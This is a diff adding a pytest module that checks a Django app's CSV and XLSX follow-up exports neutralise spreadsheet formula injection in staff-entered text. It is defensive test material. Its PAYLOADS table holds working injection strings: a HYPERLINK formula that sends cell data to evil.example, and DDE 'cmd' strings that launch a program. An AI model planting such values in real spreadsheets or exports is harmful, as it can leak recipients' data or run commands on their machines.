@@ -1,0 +1,93 @@
+"""Issue 14 item 6: formula injection. Texts that staff type (registers, shelter profile) reach the follow-up's
+CSV and XLSX, which are sent to the municipality; a cell starting with =, +, -, @, tab or CR must stay text."""
+
+import csv
+import datetime as dt
+import io
+import re
+from pathlib import Path
+
+import pytest
+import time_machine
+from django.conf import settings
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from tests.reporting.factories import CompetenceDevelopmentFactory, PrintedFolderFactory, make_report, shelter_in
+
+pytestmark = pytest.mark.django_db
+
+PAYLOADS = {
+    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")',
+    "+": "+1+cmd|' /C calc'!A0",
+    "-": "-2+3+cmd|' /C calc'!A0",
+    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t": "\t=1+1",
+    "\r": "\r=1+1",
+}
+
+
+@pytest.fixture(autouse=True)
+def _today():
+    with time_machine.travel("2026-03-01 10:00 +0100", tick=False):
+        yield
+
+
+def _report_with(payload: str, coordinator):
+    shelter_in("0136", opening_hours=payload, telephone_hours=payload)
+    PrintedFolderFactory(date=dt.date(2025, 2, 1), language=payload, placed_at=payload)
+    CompetenceDevelopmentFactory(date=dt.date(2025, 4, 10), title=payload, provider="Länsstyrelsen")
+    return make_report(by=coordinator)
+
+
+@pytest.mark.parametrize("prefix", list(PAYLOADS))
+def test_follow_up_csv_writes_formula_like_texts_as_text(prefix, coordinator, coordinator_client):
+    payload = PAYLOADS[prefix]
+    report = _report_with(payload, coordinator)
+    response = coordinator_client.get(reverse("reporting:report_csv", args=[report.pk]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    cells = [cell for row in rows for cell in row]
+    # The texts are there (opening hours, telephone hours, folder language, course) ...
+    assert sum(payload in cell for cell in cells) >= 3
+    # ... and no cell starts like a formula: each got the apostrophe that makes it text.
+    assert [cell for cell in cells if cell.startswith(tuple(PAYLOADS))] == []
+    assert "'" + payload in cells
+
+
+@pytest.mark.parametrize("prefix", list(PAYLOADS))
+def test_follow_up_xlsx_stores_formula_like_texts_as_text_cells(prefix, coordinator, coordinator_client):
+    payload = PAYLOADS[prefix]
+    report = _report_with(payload, coordinator)
+    response = coordinator_client.get(reverse("reporting:report_xlsx", args=[report.pk]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    # (XML reads a carriage return back as a line feed: find the texts by their visible part.)
+    texts = [cell for cell in cells if isinstance(cell.value, str) and payload.strip() in cell.value]
+    assert len(texts) >= 3
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in texts)
+
+
+def test_statistics_csv_goes_through_the_helper(coordinator_client):
+    """The support line's statistics CSV holds labels and counts; a label starting with '-' would still be text."""
+    response = coordinator_client.get(reverse("calls:statistics_csv"))
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[0] == ["Avsnitt", "Rad", "Värde"]
+    assert [cell for row in rows for cell in row if cell.startswith(tuple(PAYLOADS))] == []
+
+
+SOURCE_DIRS = ["jour", "residents", "volunteers", "reporting"]
+WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import Workbook|xlsxwriter")
+
+
+def test_every_csv_and_xlsx_export_uses_the_one_helper():
+    root = Path(settings.BASE_DIR)
+    offenders = []
+    for directory in SOURCE_DIRS:
+        for path in (root / directory).rglob("*.py"):
+            if path.match("jour/lib/exports.py") or "migrations" in path.parts:
+                continue
+            if WRITERS.search(path.read_text()):
+                offenders.append(str(path.relative_to(root)))
+    assert offenders == []
